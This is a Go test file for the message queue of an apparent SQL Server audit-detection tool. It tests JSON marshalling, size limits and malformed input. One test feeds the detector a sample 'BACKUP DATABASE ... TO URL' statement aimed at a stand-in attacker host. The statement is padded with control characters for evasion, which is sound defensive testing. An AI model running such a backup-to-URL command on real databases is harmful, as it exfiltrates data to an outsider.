package queuemsg

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel/audit"
)

func finding(records int, stmt int) detect.Finding {
	f := detect.Finding{DetectionID: "d-1", Rule: "EXF-001", Title: "backup to URL", Severity: detect.High,
		Why: "backup to an unknown destination", Time: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC), Server: "srv1"}
	for i := 0; i < records; i++ {
		f.Records = append(f.Records, detect.Evidence{ActionID: "BA", Statement: strings.Repeat("x", stmt), FileName: "f.xel", EventIndex: i})
	}
	return f
}

func TestMarshalRoundTrip(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name        string
		f           detect.Finding
		wantRecords int // -1: fewer than given
	}{
		{name: "small", f: finding(2, 100), wantRecords: 2},
		{name: "many-records", f: finding(500, 400), wantRecords: -1},
		{name: "huge-statement", f: finding(1, 200_000), wantRecords: 1},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			b, err := Marshal(tc.f)
			if err != nil {
				t.Fatal(err)
			}
			if len(b) > MaxJSON {
				t.Fatalf("message is %d bytes, over %d", len(b), MaxJSON)
			}
			if n := len(EncodeQueueText(b)); n > 64<<10 {
				t.Fatalf("base64 text is %d bytes, over 64 KiB", n)
			}
			var top map[string]json.RawMessage
			if err := json.Unmarshal(b, &top); err != nil || len(top) != 1 || top["detection"] == nil {
				t.Fatalf("message %q is not {\"detection\":…}", b[:min(len(b), 80)])
			}
			got, err := Unmarshal(b)
			if err != nil {
				t.Fatal(err)
			}
			if got.DetectionID != tc.f.DetectionID || got.Rule != tc.f.Rule || got.Severity != tc.f.Severity {
				t.Errorf("got %s/%s/%v, want %s/%s/%v", got.DetectionID, got.Rule, got.Severity, tc.f.DetectionID, tc.f.Rule, tc.f.Severity)
			}
			switch {
			case tc.wantRecords >= 0 && len(got.Records) != tc.wantRecords:
				t.Errorf("records = %d, want %d", len(got.Records), tc.wantRecords)
			case tc.wantRecords < 0 && (len(got.Records) >= len(tc.f.Records) || len(got.Records) == 0):
				t.Errorf("records = %d, want trimmed from %d", len(got.Records), len(tc.f.Records))
			}
		})
	}
}

func TestUnmarshalBad(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		"not-json":     `hello`,
		"no-wrapper":   `{"detection_id":"d","rule":"r"}`,
		"empty-object": `{"detection":{}}`,
		"array":        `[{"detection":{"detection_id":"d","rule":"r"}}]`,
		"null":         `null`,
	}
	for name, in := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if _, err := Unmarshal([]byte(in)); !errors.Is(err, ErrBad) {
				t.Errorf("Unmarshal(%s) err = %v, want ErrBad", in, err)
			}
		})
	}
}

func TestQueueText(t *testing.T) {
	t.Parallel()
	in := []byte(`{"detection":{"detection_id":"d","rule":"r"}}`)
	got, err := DecodeQueueText(EncodeQueueText(in))
	if err != nil || string(got) != string(in) {
		t.Fatalf("round trip = %q, %v", got, err)
	}
	if _, err := DecodeQueueText("{not base64"); !errors.Is(err, ErrBad) {
		t.Errorf("err = %v, want ErrBad", err)
	}
}

// TestMessagesOfPaddedStatement: the findings the engine raises for a
// 600,000-character padded backup (and for a 10 MB one the reader kept as
// head and tail), with every other column at its worst (256 bytes of
// characters JSON escapes as \u00XX), give queue messages within 64 KiB
// as the queue counts them (the base64 text the host reads).
func TestMessagesOfPaddedStatement(t *testing.T) {
	t.Parallel()
	e, err := detect.New(detect.DefaultConfig(), detect.NewMemoryState())
	if err != nil {
		t.Fatal(err)
	}
	nasty := strings.Repeat("\x01<", 400)
	stmt := "BACKUP DATABASE [db] TO URL = 'https://evil.blob.core.windows.net/c/" + nasty + ".bak' /*" +
		strings.Repeat("\x01", 600_000) + "*/ WITH COPY_ONLY"
	rec := audit.Record{EventTime: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC), ActionID: "BA", ClassType: "DB", Succeeded: true,
		ServerPrincipalName: nasty, SessionServerPrincipalName: nasty, ServerInstanceName: nasty, DatabaseName: nasty,
		ClientIP: nasty, ApplicationName: nasty, FileName: strings.Repeat(nasty, 4), Statement: stmt}
	elided := rec
	elided.AuditFileOffset = 1
	elided.Statement = stmt[:300_000] + stmt[len(stmt)-200_000:]
	elided.Elided = audit.Elision{At: 300_000, Dropped: 9 << 20, Units: 10 << 20}
	rules := map[string]bool{}
	for _, r := range []*audit.Record{&rec, &elided} {
		fs, err := e.Evaluate(context.Background(), r)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range fs {
			rules[f.Rule] = true
			b, err := Marshal(f)
			if err != nil {
				t.Fatalf("%s: %v", f.Rule, err)
			}
			if n := len(EncodeQueueText(b)); n > 64<<10 {
				t.Errorf("%s: queue message of %d bytes, over 64 KiB", f.Rule, n)
			}
		}
	}
	for _, want := range []string{"EXF-001", "EXF-002", "EVA-001"} {
		if !rules[want] {
			t.Errorf("no %s finding to check (findings: %v)", want, rules)
		}
	}
}
